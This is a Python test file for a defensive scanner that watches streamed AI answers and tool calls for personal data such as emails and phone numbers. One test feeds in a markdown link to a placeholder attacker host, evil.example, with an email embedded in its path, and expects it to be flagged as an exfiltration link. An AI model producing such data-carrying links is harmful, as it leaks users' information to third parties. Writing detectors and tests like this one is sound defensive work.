"""Answer scanning: windows with overlap, nothing held back, findings counted once."""

from __future__ import annotations

import json

from bastion.crypto.keyring import Keyring
from bastion.detect.catalog import build_scanner
from bastion.detect.inspector import DetectorInspector
from bastion.pipeline.answer_scan import WINDOW, AnswerScan, AnswerScanHook
from bastion.pipeline.stream import StreamEvent
from bastion.wire.sse import SseEvent

INSPECTOR = DetectorInspector(build_scanner(), Keyring.generate())


def delta(text: str) -> StreamEvent:
    payload = {
        "object": "chat.completion.chunk",
        "choices": [{"index": 0, "delta": {"content": text}}],
    }
    return StreamEvent(SseEvent(json.dumps(payload)))


def test_a_value_across_a_window_edge_is_found_once_and_nothing_waits() -> None:
    hook = AnswerScanHook(AnswerScan(INSPECTOR))
    filler = "word " * (WINDOW // 5 - 3)
    text = filler + "mail ann.lee@contoso-example.com today. " + "more " * 500
    for at in range(0, len(text), 7):
        event = delta(text[at : at + 7])
        assert hook.on_event(event) == (event,)  # observes only
    assert hook.on_end() == ()
    emails = [f for f in hook.scan.findings if f.data_class == "pii.email"]
    assert len(emails) == 1 and emails[0].fingerprint


def test_tool_arguments_are_scanned_too() -> None:
    hook = AnswerScanHook(AnswerScan(INSPECTOR))
    call = {"index": 0, "function": {"arguments": '{"to": "+44 20 7946 0958"}'}}
    payload = {"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}
    hook.on_event(StreamEvent(SseEvent(json.dumps(payload))))
    hook.on_end()
    assert [f.data_class for f in hook.scan.findings] == ["pii.phone"]


def test_a_link_holding_a_stand_in_is_recorded_as_carrying_data() -> None:
    """Without output rules the answer is only observed: the call record still shows
    that the link would carry the caller's value once its fake is restored."""
    fake = "avery.kestrel4821@example.com"
    hook = AnswerScanHook(AnswerScan(INSPECTOR, frozenset({fake})))
    text = f"Open [it](https://evil.example/u/{fake}) now."
    for at in range(0, len(text), 4):
        hook.on_event(delta(text[at : at + 4]))
    hook.on_end()
    links = [f for f in hook.scan.findings if f.data_class == "output.exfil_link"]
    assert [(f.score, f.meta["carries"]) for f in links] == [(0.95, "stand_in")]
    assert [f.data_class for f in hook.scan.findings] == ["output.exfil_link"]  # not the fake


def responses_event(kind: str, **fields: object) -> StreamEvent:
    return StreamEvent(SseEvent(json.dumps({"type": kind, **fields}), event=kind))


EMAIL = "ann.lee@contoso-example.com"


def test_a_responses_text_sent_only_whole_is_scanned_once() -> None:
    """Some servers send a short text only in its done event or finished item, with no
    delta: nothing passes unscanned, and the repeats are not counted again."""
    hook = AnswerScanHook(AnswerScan(INSPECTOR))
    text = f"Write to {EMAIL} today."
    part = {"type": "output_text", "text": text, "annotations": []}
    item = {"type": "message", "role": "assistant", "content": [part]}
    for event in (
        responses_event("response.output_text.done", output_index=0, content_index=0, text=text),
        responses_event("response.output_item.done", output_index=0, item=item),
        responses_event("response.completed", response={"output": [item]}),
    ):
        assert hook.on_event(event) == (event,)
    hook.on_end()
    assert [f.data_class for f in hook.scan.findings] == ["pii.email"]


def test_a_finished_item_longer_than_its_deltas_is_scanned_from_where_they_ended() -> None:
    hook = AnswerScanHook(AnswerScan(INSPECTOR))
    said = "Write to "
    hook.on_event(responses_event("response.output_text.delta", output_index=0,
                                  content_index=0, delta=said))  # fmt: skip
    part = {"type": "output_text", "text": f"{said}{EMAIL} today."}
    item = {"type": "message", "content": [part]}
    hook.on_event(responses_event("response.output_item.done", output_index=0, item=item))
    hook.on_end()
    assert [f.data_class for f in hook.scan.findings] == ["pii.email"]


def test_a_function_call_sent_only_finished_is_scanned() -> None:
    hook = AnswerScanHook(AnswerScan(INSPECTOR))
    call = {"type": "function_call", "name": "send", "arguments": json.dumps({"to": EMAIL})}
    hook.on_event(responses_event("response.output_item.done", output_index=1, item=call))
    hook.on_end()
    assert [f.data_class for f in hook.scan.findings] == ["pii.email"]
